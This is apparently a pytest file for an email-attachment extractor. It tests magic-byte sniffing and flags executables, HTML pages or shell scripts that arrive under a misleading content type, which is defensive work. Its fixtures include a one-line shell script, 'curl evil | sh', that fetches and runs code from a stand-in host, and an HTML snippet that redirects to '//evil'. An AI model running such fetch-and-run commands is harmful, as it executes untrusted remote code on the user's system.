"""Sniffed content types, and the mismatches worth telling an agent about."""

from __future__ import annotations

import random
from collections.abc import Callable

import puremagic
import puremagic.main as puremagic_main
import pytest

from extractors import Limits, extract_message, sniff
from extractors.sniff import detect_content_type, is_mismatch

Build = Callable[..., bytes]

PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj <<>> endobj\n"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + b"\x00" * 16
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + b"\x00" * 16
ZIP = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"\x00" * 30
ELF = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
# A PE file: "MZ", the offset of the PE header at 0x3C, then "PE\0\0" there.
PE = (
    b"MZ"
    + b"\x00" * 58
    + (0x80).to_bytes(4, "little")
    + b"\x00" * 0x40
    + b"PE\x00\x00"
    + b"\x00" * 64
)


@pytest.mark.parametrize(
    ("data", "detected"),
    [
        (PDF, "application/pdf"),
        (PNG, "image/png"),
        (JPEG, "image/jpeg"),
        (ZIP, "application/zip"),
        (ELF, "application/x-executable"),
        (PE, "application/vnd.microsoft.portable-executable"),
        (b"MZ is just how this text starts", "text/plain"),
        (b"plain words\r\n", "text/plain"),
        (b"", None),
    ],
)
def test_common_formats_are_recognised_from_their_first_bytes(
    data: bytes, detected: str | None
) -> None:
    assert detect_content_type(data) == detected


def test_pdf_declared_as_png_is_a_mismatch(one_attachment: Build) -> None:
    [part] = extract_message(
        one_attachment("Content-Type: image/png; name=a.png", PDF), Limits()
    ).attachments
    assert part.detected_content_type == "application/pdf"
    assert part.content_type_mismatch is True


def test_executable_declared_as_pdf_is_a_mismatch(one_attachment: Build) -> None:
    [part] = extract_message(
        one_attachment("Content-Type: application/pdf", PE), Limits()
    ).attachments
    assert part.detected_content_type == "application/vnd.microsoft.portable-executable"
    assert part.content_type_mismatch is True


def test_executable_declared_as_octet_stream_is_not_a_mismatch(one_attachment: Build) -> None:
    raw = one_attachment("Content-Type: application/octet-stream; name=setup.exe", PE)
    [part] = extract_message(raw, Limits()).attachments
    assert part.content_type_mismatch is False


@pytest.mark.parametrize(
    ("declared", "data", "mismatch"),
    [
        ("text/plain", ELF, True),  # an executable behind any other label
        ("image/jpeg", PE, True),
        ("application/x-msdownload", PE, False),
        ("application/zip", PDF, True),
        ("image/png", JPEG, False),  # mislabelled images are common and harmless
        ("application/msword", ZIP, False),  # a .docx sent as application/msword is a zip
        (
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            ZIP,
            False,
        ),
        ("application/pdf", b"just text, maybe a broken PDF", False),
        ("text/html", PNG, False),  # text labels promise no specific format
        ("application/octet-stream", PDF, False),
    ],
)
def test_mismatch_is_reported_only_when_it_matters(
    declared: str, data: bytes, mismatch: bool
) -> None:
    assert is_mismatch(declared, detect_content_type(data)) is mismatch


MACHO = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 56
MACHO_BIG_ENDIAN = b"\xfe\xed\xfa\xce\x00\x00\x00\x12" + b"\x00" * 56
DOS_EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + b"\x00" * 64  # no PE header
HTML = b"<!DOCTYPE html>\n<html><body><script>location='//evil'</script>"
BOM_HTML = b"\xef\xbb\xbf  \r\n<HTML><head>"
SCRIPT = b"#!/bin/sh\ncurl evil | sh\n"
GIF = b"GIF89a\x01\x00\x01\x00" + b"\x00" * 16
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@pytest.mark.parametrize(
    ("data", "detected"),
    [
        (MACHO, "application/x-mach-binary"),
        (MACHO_BIG_ENDIAN, "application/x-mach-binary"),
        (DOS_EXE, "application/x-dosexec"),
        (HTML, "text/html"),
        (BOM_HTML, "text/html"),
        (SCRIPT, "text/x-script"),
        (b"<p>a fragment is not a page</p>", "text/plain"),
        (b"#include <stdio.h>\n", "text/plain"),
    ],
    ids=["macho", "macho-be", "dos-exe", "html", "html-bom", "shebang", "fragment", "c-source"],
)
def test_executables_pages_and_scripts_are_recognised(data: bytes, detected: str) -> None:
    assert detect_content_type(data) == detected


# declared, bytes, mismatch: the table of what matters to an agent opening the file.
MISMATCH_TABLE = [
    # Executables behind a document, media, archive or text label.
    ("application/pdf", PE, True),
    ("application/pdf", ELF, True),
    ("application/pdf", MACHO, True),
    ("image/png", DOS_EXE, True),
    ("image/gif", MACHO_BIG_ENDIAN, True),
    (DOCX, PE, True),
    ("application/msword", ELF, True),
    ("application/zip", PE, True),
    ("text/plain", PE, True),
    ("text/csv", MACHO, True),
    ("text/html", ELF, True),
    # Pages and scripts behind a document or media label.
    ("application/pdf", HTML, True),
    ("application/pdf", SCRIPT, True),
    ("image/jpeg", HTML, True),
    ("image/png", BOM_HTML, True),
    (DOCX, SCRIPT, True),
    ("application/zip", HTML, True),
    ("video/mp4", SCRIPT, True),
    # One specific format posing as another.
    ("application/pdf", PNG, True),
    ("image/png", PDF, True),
    ("application/zip", PDF, True),
    (DOCX, PDF, True),
    # Harmless: octet-stream promises nothing, whatever the bytes.
    ("application/octet-stream", PE, False),
    ("application/octet-stream", HTML, False),
    ("application/octet-stream", PDF, False),
    ("binary/octet-stream", ELF, False),
    # Harmless: an executable labelled as one.
    ("application/x-msdownload", PE, False),
    ("application/x-dosexec", DOS_EXE, False),
    ("application/x-executable", ELF, False),
    ("application/x-mach-binary", MACHO, False),
    # Harmless: aliases and containers of one another.
    ("application/x-zip-compressed", ZIP, False),
    ("application/zip", ZIP, False),
    (DOCX, ZIP, False),
    (XLSX, ZIP, False),
    ("application/msword", ZIP, False),
    ("application/vnd.oasis.opendocument.text", ZIP, False),
    ("application/java-archive", ZIP, False),
    ("application/x-pdf", PDF, False),
    ("image/jpg", JPEG, False),
    ("image/png", JPEG, False),
    ("image/gif", PNG, False),
    # Harmless: text labels promise no format; pages and scripts behind a text label.
    ("text/plain", HTML, False),
    ("text/plain", SCRIPT, False),
    ("text/html", HTML, False),
    ("text/html", PNG, False),
    ("application/x-sh", SCRIPT, False),
    ("text/plain", GIF, False),
    # Harmless: nothing could be detected, or plain text behind a binary label.
    ("application/pdf", b"", False),
    ("application/pdf", b"just text, maybe a broken PDF", False),
    ("image/png", b"MZ is how this text starts", False),
]


@pytest.mark.parametrize(
    ("declared", "data", "mismatch"),
    MISMATCH_TABLE,
    ids=[f"{n}-{d}-{m}" for n, (d, _, m) in enumerate(MISMATCH_TABLE)],
)
def test_mismatch_table(declared: str, data: bytes, mismatch: bool) -> None:
    assert is_mismatch(declared, detect_content_type(data)) is mismatch


@pytest.mark.parametrize(
    ("header", "data", "detected", "mismatch"),
    [
        ("Content-Type: application/pdf; name=invoice.pdf", HTML, "text/html", True),
        ("Content-Type: image/png; name=cat.png", MACHO, "application/x-mach-binary", True),
        (f"Content-Type: {DOCX}; name=a.docx", ZIP, "application/zip", False),
        ("Content-Type: application/x-zip-compressed; name=a.zip", ZIP, "application/zip", False),
        ("Content-Type: text/html; name=page.html", HTML, "text/html", False),
    ],
)
def test_part_records_what_its_bytes_are_and_whether_that_matters(
    one_attachment: Build, header: str, data: bytes, detected: str, mismatch: bool
) -> None:
    [part] = extract_message(one_attachment(header, data), Limits()).attachments
    assert (part.detected_content_type, part.content_type_mismatch) == (detected, mismatch)


def _puremagic_answer(data: bytes) -> str | None:
    """What puremagic itself says of `data` (None where it raises)."""
    try:
        found = puremagic.from_string(data, mime=True)
    except puremagic.PureError:
        return None
    return found if isinstance(found, str) else None


def _signature_samples() -> list[bytes]:
    """Bytes holding each signature of puremagic's database where it looks for it.

    Every header and footer signature at its offset in 4 KiB of seeded random bytes (the size
    detect_content_type passes on), each multi-part signature after its parent, and random
    bytes with nothing, so both the matches and the ranking among several are compared.
    """
    rng = random.Random(20261201)
    samples: list[bytes] = []

    def noise() -> bytearray:
        return bytearray(rng.randbytes(4096))

    for row in puremagic_main.magic_header_array:
        if row.offset + len(row.byte_match) <= 4096:
            buf = noise()
            buf[row.offset:row.offset + len(row.byte_match)] = row.byte_match
            samples.append(bytes(buf))
    for row in puremagic_main.magic_footer_array:
        buf = noise()
        buf[len(buf) + row.offset:len(buf) + row.offset + len(row.byte_match)] = row.byte_match
        samples.append(bytes(buf))
    parents = {r.byte_match: r for r in puremagic_main.magic_header_array}
    for key, options in puremagic_main.multi_part_dict.items():
        parent = parents.get(key)
        if parent is None:
            continue
        for row in options:
            buf = noise()
            buf[parent.offset:parent.offset + len(key)] = key
            at = row.offset if row.offset >= 0 else len(buf) + row.offset
            buf[at:at + len(row.byte_match)] = row.byte_match
            samples.append(bytes(buf))
    samples += [rng.randbytes(n) for n in (1, 7, 64, 600, 4096)]
    return samples


def test_indexed_puremagic_answers_as_puremagic_does() -> None:
    """The index gives puremagic's own answer for every signature it knows, and for none."""
    samples = _signature_samples()
    assert len(samples) > 1400
    differing = [(s[:16], sniff._PUREMAGIC.mime_type(s), _puremagic_answer(s))
                 for s in samples if sniff._PUREMAGIC.mime_type(s) != _puremagic_answer(s)]
    assert differing == []
    assert sum(_puremagic_answer(s) is not None for s in samples) > 1400

